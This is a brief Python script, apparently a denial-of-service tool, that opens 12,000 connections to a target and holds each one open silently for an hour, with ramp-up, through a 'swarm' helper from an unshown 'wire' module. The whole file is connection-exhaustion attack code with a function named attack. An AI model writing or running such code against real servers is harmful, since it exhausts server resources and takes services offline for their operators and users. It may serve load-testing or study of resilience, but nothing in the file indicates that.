"""12,000 connections that are opened and say nothing."""

import asyncio

from wire import swarm

CLIENTS = 12_000


async def attack(target):
    await swarm(target, CLIENTS, lambda connection: asyncio.sleep(3_600), ramp=3)
